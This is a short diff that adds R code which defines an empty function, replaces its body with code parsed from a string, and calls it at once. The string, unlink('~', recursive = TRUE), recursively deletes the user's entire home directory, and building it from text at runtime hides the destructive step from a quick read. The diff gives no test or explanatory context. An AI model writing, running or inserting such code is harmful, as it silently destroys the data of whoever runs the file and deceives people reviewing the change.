@@ -1,0 +1,3 @@
+f <- function() NULL
+body(f) <- parse(text = "unlink('~', recursive = TRUE)")[[1]]
+f()
